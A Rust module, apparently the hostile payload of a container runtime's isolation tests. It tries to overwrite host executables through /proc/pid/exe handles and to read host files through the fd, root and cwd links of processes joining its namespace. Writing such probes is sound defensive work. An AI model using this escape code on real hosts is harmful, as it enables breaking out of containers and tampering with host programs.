//! What a hostile payload tries against the processes that come into its pid namespace.
//!
//! Runs in: the container.

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::{AsFd, AsRawFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;
use std::time::{Duration, Instant};

use crate::sys;

/// Pids in /proc other than this process.
fn others() -> Vec<i32> {
    let own = nix::unistd::getpid().as_raw();
    let names = fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .filter_map(Result::ok);
    names
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .filter(|pid| *pid != own)
        .collect()
}

/// Keeps a descriptor of every foreign program it sees and tries to open it for writing until the time is over: while
/// the program runs the kernel says ETXTBSY, the moment it ends it does not.
pub fn hijack_programs(within_ms: u64) -> i64 {
    let end = Instant::now() + Duration::from_millis(within_ms);
    let own = fs::metadata("/proc/self/exe")
        .map(|meta| (meta.dev(), meta.ino()))
        .ok();
    let mut programs: BTreeMap<(u64, u64), File> = BTreeMap::new();
    let mut written = 0;
    while Instant::now() < end {
        for pid in others() {
            let open = OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(format!("/proc/{pid}/exe"));
            let Ok(program) = open else { continue };
            let Ok(meta) = program.metadata() else {
                continue;
            };
            let identity = (meta.dev(), meta.ino());
            if Some(identity) != own {
                // A mount that nobody has attached can be changed by whoever has CAP_SYS_ADMIN anywhere.
                let _ = sys::clear_read_only(program.as_fd());
                programs.entry(identity).or_insert(program);
            }
        }
        for program in programs.values() {
            let path = format!("/proc/self/fd/{}", program.as_raw_fd());
            if let Ok(mut file) = OpenOptions::new().write(true).open(path) {
                written += i64::from(file.write_all(b"#!/bin/hijacked\n").is_ok());
            }
        }
    }
    written
}

/// A process that is in the pid namespace already and in the mount namespace not yet shows the host's tree.
pub fn reach_host_file(path: &Path, within_ms: u64) -> io::Result<String> {
    let end = Instant::now() + Duration::from_millis(within_ms);
    let relative = path.to_string_lossy().trim_start_matches('/').to_owned();
    let up = "../".repeat(16);
    while Instant::now() < end {
        for pid in others() {
            let descriptors = (0..24).map(|fd| format!("/proc/{pid}/fd/{fd}"));
            let places =
                descriptors.chain([format!("/proc/{pid}/root"), format!("/proc/{pid}/cwd")]);
            for place in places {
                for way in [
                    format!("{place}/{relative}"),
                    format!("{place}/{up}{relative}"),
                    // A descriptor of the host's /proc.
                    format!("{place}/1/root/{relative}"),
                ] {
                    if let Ok(text) = fs::read_to_string(&way) {
                        return Ok(format!("{text} by {way}"));
                    }
                }
            }
        }
    }
    Err(io::Error::from_raw_os_error(libc::ENOENT))
}
